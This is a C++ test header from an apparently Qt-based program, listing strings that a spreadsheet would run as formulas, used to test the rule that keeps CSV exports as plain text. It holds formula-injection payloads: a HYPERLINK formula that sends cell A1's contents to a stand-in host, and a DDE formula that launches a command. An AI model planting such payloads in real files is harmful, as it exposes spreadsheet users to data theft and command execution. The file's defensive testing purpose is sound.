#pragma once

// Texts that a spreadsheet would run as a formula when a CSV file holds them raw, and texts that
// test the rule which keeps them text: shared by the tests of every CSV the program writes.

#include <QList>
#include <QPair>
#include <QString>

namespace annalist::test {

// Each with a row name for a data table.
inline QList<QPair<const char *, QString>> hostileTexts()
{
    return {
        {"equals", QStringLiteral("=1+1")},
        {"hyperlink", QStringLiteral("=HYPERLINK(\"https://example.invalid/?\"&A1;\"Klik\")")},
        {"dde", QStringLiteral("=cmd|' /C calc'!A0")},
        {"plus", QStringLiteral("+45 1234 5678")},
        {"minus", QStringLiteral("-x")},
        {"minus number", QStringLiteral("-5")},
        {"like an amount", QStringLiteral("-1.234,50")},
        {"at", QStringLiteral("@SUM(A1)")},
        {"tab", QStringLiteral("\t=1+1")},
        {"carriage return", QStringLiteral("\r=1+1")},
        {"formula, line break, formula", QStringLiteral("=1+1\r\n=2+2")},
        {"apostrophe", QStringLiteral("'already quoted")},
        {"apostrophe alone", QStringLiteral("'")},
        {"apostrophe equals", QStringLiteral("'=keep?")},
        {"two apostrophes equals", QStringLiteral("''=two")},
        {"apostrophe tab", QStringLiteral("'\t=1+1")},
        {"delimiters and quotes", QStringLiteral("M\u00f8de; \"ekstra\", kaffe\nlinje 2")},
        {"formula later", QStringLiteral("Husleje =1+1")},
    };
}

} // namespace annalist::test
